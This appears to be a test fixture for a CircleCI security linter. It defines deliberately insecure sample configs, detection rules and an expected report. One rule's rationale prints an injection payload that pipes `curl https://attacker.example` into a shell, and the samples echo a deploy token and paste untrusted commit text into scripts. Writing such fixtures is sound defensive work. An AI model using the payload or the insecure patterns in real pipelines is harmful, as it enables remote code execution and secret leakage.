/** Reports that show all that a format can hold. */
import type { Report } from "../../src/finding/report.ts";
import type { SourceFile } from "../../src/source/source-file.ts";
import { at, finding, related, report, rule } from "./build.ts";

export const config: SourceFile = {
  path: ".circleci/config.yml",
  text: `version: 2.1

orbs:
  aws-cli: circleci/aws-cli@3.1.5
  node: circleci/node@5
  slack: circleci/slack@4
  deployer: shipfast/deployer@volatile

commands:
  announce:
    parameters:
      text:
        type: string
    steps:
      - run:
          name: Tell the team
          command: |
            set -e
            ./scripts/announce.sh "<< parameters.text >>"

jobs:
  test:
    docker:
      - image: cimg/node:22.11
    steps:
      - checkout
      - run: npm test
      - announce:
          text: << pipeline.git.commit.subject >>

  deploy:
    docker:
      - image: cimg/base:2026.10
    steps:
      - add_ssh_keys
      - run:
          name: Deploy
          command: |
            echo "deploying with $DEPLOY_TOKEN"
            ssh -o StrictHostKeyChecking=no deploy@bastion.shop.internal ./release.sh

workflows:
  ship:
    jobs:
      - test
      - deploy:
          context: aws-production
          requires: [test]
`,
};

export const nightly: SourceFile = {
  path: ".circleci/nightly.yml",
  text: `version: 2.1
orbs:
  node: circleci/node@5
jobs:
  audit:
    docker:
      - image: cimg/node:22.11
    steps:
      - run: echo "$DEPLOY_TOKEN" | base64
`,
};

export const injection = rule("template-injection", {
  title: "Untrusted text is pasted into a script",
  summary: "A value that outsiders choose is substituted into a script before the shell reads it.",
  rationale:
    'CircleCI replaces `<< >>` with plain text while it compiles the configuration; quotes around it are part of the script and stop nothing. A commit subject such as `"; curl https://attacker.example | sh; "` then runs as commands of the job, with its contexts, its OIDC token and its SSH keys.',
  remediation:
    "Give the value to the step as an environment variable and use the variable in double quotes; the shell does not parse a variable's value again.",
  tags: { owasp: ["CICD-SEC-4"], cwe: ["CWE-78", "CWE-94"] },
});

export const echoed = rule("secret-echoed", {
  title: "A secret is written to the job's output",
  summary: "A command writes a secret to the job's output.",
  rationale:
    "Everybody who can see the build reads its output, on public projects everybody. CircleCI masks only values it knows, only whole, and not those shorter than four characters.",
  remediation: "Do not print it. To see whether it is set, print `${DEPLOY_TOKEN:+set}`.",
});

export const floating = rule("floating-orb", {
  title: "The orb's version is not exact",
  summary: "An orb version that CircleCI resolves anew in every pipeline.",
  rationale: "Whoever can publish the orb changes what your jobs run, without a change in your repository.",
  remediation: "Write the full version, and let a bot raise it in pull requests.",
  severity: "low",
  tags: { owasp: ["CICD-SEC-3"], cwe: ["CWE-829"] },
});

export const unguarded = rule("unguarded-context", {
  title: "Any branch can use the context",
  summary: "A job that runs on every branch takes a context, and nothing known restricts the context.",
  rationale:
    "A context without restriction can be read by every pipeline of the organisation. Whoever can push a branch edits a script and prints every secret in it.",
  remediation:
    'Restrict the context itself, under Organization Settings, Contexts: to a security group, to this project, or by an expression such as `pipeline.git.branch == "main" and not job.ssh.enabled`.',
  severity: "medium",
  confidence: "medium",
  tags: { owasp: ["CICD-SEC-5"], cwe: ["CWE-862"] },
});

const pasted = at(config, "<< parameters.text >>", ["commands", "announce", "steps", 0, "run", "command"]);
const subject = at(config, "<< pipeline.git.commit.subject >>", ["jobs", "test", "steps", 2, "announce", "text"]);
const printed = at(config, "$DEPLOY_TOKEN", ["jobs", "deploy", "steps", 1, "run", "command"]);

const findings = [
  finding(floating, at(config, "circleci/node@5", ["orbs", "node"]), {
    message: "CircleCI resolves `circleci/node@5` to the newest 5.x in every pipeline.",
    replacement: "node: circleci/node@5.3.0",
  }),
  finding(floating, at(config, "circleci/slack@4", ["orbs", "slack"]), {
    message: "CircleCI resolves `circleci/slack@4` to the newest 4.x in every pipeline.",
    replacement: "slack: circleci/slack@4.15.0",
  }),
  finding(injection, pasted, {
    message:
      "`pipeline.git.commit.subject` is pasted into this script before the shell reads it: whoever can push a commit can write commands that run in the job `test`. Quotes do not help.",
    trace: [
      related(subject, "`pipeline.git.commit.subject` enters here"),
      related(at(config, "text:", ["commands", "announce", "parameters", "text"]), "it is passed on as `text`"),
      related(pasted, "and becomes part of the script"),
    ],
    related: [related(at(config, "announce:", [], "npm test"), "called by the job `test`")],
    replacement: 'environment:\n  COMMIT_SUBJECT: << parameters.text >>\ncommand: |\n  ./scripts/announce.sh "$COMMIT_SUBJECT"\n',
  }),
  finding(echoed, printed, {
    message: "`$DEPLOY_TOKEN` is written to the output, where everyone who can see the build reads it.",
    severity: "critical",
    related: Array.from({ length: 9 }, (_, index) =>
      related(at(config, "checkout"), `also reached from the job \`deploy-${index}\``),
    ),
  }),
  finding(unguarded, at(config, "aws-production", ["workflows", "ship", "jobs", 1, "deploy", "context"]), {
    message: "Every branch can run the job `deploy` with the context `aws-production`, and nothing known restricts the context.",
  }),
  finding(floating, at(nightly, "circleci/node@5", ["orbs", "node"]), {
    message: "CircleCI resolves `circleci/node@5` to the newest 5.x in every pipeline.",
    replacement: "node: circleci/node@5.3.0",
  }),
];

export const fullReport: Report = report({
  files: [".circleci/config.yml", ".circleci/lint.yml", ".circleci/nightly.yml"],
  findings,
  suppressed: [
    {
      ...finding(echoed, at(nightly, "$DEPLOY_TOKEN"), { message: "`$DEPLOY_TOKEN` is written to the output." }),
      suppression: { kind: "inSource", reason: "a test token, see #12", until: "2027-01-31" },
    },
    {
      ...finding(floating, at(config, "circleci/aws-cli@3.1.5"), { message: "Not really." }),
      suppression: { kind: "settings", reason: "" },
    },
  ],
  baselined: [finding(unguarded, at(config, "add_ssh_keys"), { message: "Known for years." })],
  problems: [
    {
      code: "unknown-executor",
      message: "There is no executor `node-large`, so the image of the job `audit` was not checked.",
      location: at(nightly, "cimg/node:22.11", ["jobs", "audit", "docker", 0, "image"]),
      level: "warning",
    },
  ],
  coverage: [
    { ruleId: "template-injection", status: "ran" },
    { ruleId: "secret-echoed", status: "ran" },
    { ruleId: "floating-orb", status: "ran" },
    { ruleId: "unguarded-context", status: "ran" },
    {
      source: "orb circleci/node@5",
      status: "unknown",
      reason: "its source is not at hand, so what its commands and jobs do was not checked",
      location: at(config, "circleci/node@5"),
    },
    {
      source: "orb circleci/slack@4",
      status: "unknown",
      reason: "its source is not at hand, so what its commands and jobs do was not checked",
      location: at(config, "circleci/slack@4"),
    },
    {
      source: "orb shipfast/deployer@volatile",
      status: "unknown",
      reason: "its source is not at hand, so what its commands and jobs do was not checked",
    },
    { source: "script (python)", status: "unknown", reason: "only POSIX shells are understood" },
    { source: "script (python)", status: "unknown", reason: "only POSIX shells are understood" },
    { source: "CircleCI API", status: "skipped", reason: "no snapshot was given" },
    { ruleId: "unrestricted-context", status: "skipped", reason: "needs a snapshot" },
    { ruleId: "context-missing", status: "skipped", reason: "needs a snapshot" },
  ],
  rules: [floating, echoed, injection, unguarded],
});
